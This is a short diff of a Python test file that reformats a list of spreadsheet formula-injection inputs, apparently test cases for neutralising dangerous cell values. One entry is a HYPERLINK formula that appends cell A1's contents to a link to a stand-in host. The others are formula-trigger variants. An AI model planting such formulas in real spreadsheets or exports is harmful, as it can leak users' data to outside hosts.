@@ -17,8 +17,16 @@ from tests.support.bill_server import BillServer
 from tests.support.doors import settings
 
 LIVE = [
-    '=HYPERLINK("http://example.invalid/"&A1,"open")', "+1+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1", " =1", "＝1+1", "'=1",
-]  # fmt: skip
+    '=HYPERLINK("http://example.invalid/"&A1,"open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1",
+    " =1",
+    "＝1+1",
+    "'=1",
+]
 QUESTION = "What is the capital of France?"
 
 
